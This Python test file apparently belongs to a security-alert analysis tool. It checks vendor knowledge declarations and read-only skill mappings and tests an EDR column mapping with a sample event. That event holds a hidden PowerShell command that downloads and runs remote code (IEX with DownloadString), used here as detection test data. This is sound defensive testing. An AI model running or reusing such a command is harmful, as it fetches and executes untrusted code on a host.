"""What the vendor folders tell the analyst is discovered, names only the folder's own read-only skills, and covers
every lookup the analyst drafts: a renamed skill must fail here, not vanish from playbooks."""

from __future__ import annotations

from vigil.ai.builtin import vendor_knowledge
from vigil.ai.builtin.drafting import CATEGORY_LOOKUPS
from vigil.ai.builtin.rules import endpoint
from vigil.core.entities import Entities
from vigil.evidence.knowledge import AnalystKnowledge, EventRows
from vigil.evidence.signals import AlertFacts, StepOutput
from vigil.integrations.catalog import all_skills, vendor_modules


def _folders() -> dict[str, AnalystKnowledge]:
    return {module.__name__.split(".")[-2]: module.KNOWLEDGE for module in vendor_modules("analyst")}


def test_every_vendor_with_evidence_to_read_declares_its_knowledge() -> None:
    assert {"microsoft_defender", "cloudflare", "push_security"} <= set(_folders())
    assert vendor_knowledge.all_knowledge() == tuple(_folders().values())


def test_knowledge_names_only_its_own_folders_existing_read_only_skills() -> None:
    skills = {skill.id: skill for skill in all_skills()}
    for folder, knowledge in _folders().items():
        assert knowledge.skills, folder
        for skill_id in knowledge.skills:
            assert skill_id in skills, f"{folder} names unknown skill {skill_id}"
            assert skills[skill_id].integration_id == folder, f"{folder} names another folder's skill {skill_id}"
            assert not skills[skill_id].writes, f"{folder}: the analyst reads and drafts only read-only skills"


def test_every_lookup_the_analyst_drafts_is_offered_by_some_folder() -> None:
    drafted = {purpose for groups in CATEGORY_LOOKUPS.values() for group in groups for purpose in group}
    offered = {plan.purpose for knowledge in vendor_knowledge.all_knowledge() for plan in knowledge.lookups}
    assert drafted <= offered, drafted - offered


def test_every_skill_a_folder_offers_as_a_lookup_has_a_reader() -> None:
    rules = vendor_knowledge.skill_rules()
    for knowledge in vendor_knowledge.all_knowledge():
        assert {plan.skill for plan in knowledge.lookups} <= set(rules)


def test_a_new_edr_maps_its_columns_and_the_analyst_reads_its_rows() -> None:
    """A vendor whose event rows use other column names (Sysmon/Sigma style) adds a mapping, not a rule file."""
    columns = EventRows(
        text_columns=("CommandLine", "ParentImage"),
        process="Image",
        device="Computer",
        account="User",
        remote_ip="DestinationIp",
        remote_url="DestinationHostname",
        sent_bytes=("BytesSent",),
        machine=("Computer",),
        envelopes=("events",),
    )
    step = StepOutput(
        step_name="EDR: events on the host",
        skill_id="edr.query_events",
        output={
            "events": [
                {
                    "Computer": "ws-17",
                    "User": "jdoe",
                    "Image": "powershell.exe",
                    "CommandLine": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')",
                    "DestinationIp": "45.77.10.20",
                }
            ]
        },
    )
    alert = AlertFacts(
        organization_code="ACME", alert_provider="custom", alert_type="EDR alert", alert_content="{}", alert_id="A-1"
    )
    signals = endpoint.reader(columns)(step, alert, Entities())
    by_rule = {signal.rule: signal for signal in signals}
    assert by_rule["H3"].locator == "events[0].CommandLine" and by_rule["H3"].entities == ("ws-17", "jdoe")
    assert by_rule["N1"].quote == "powershell.exe -> 45.77.10.20" and by_rule["N1"].points == 2.0
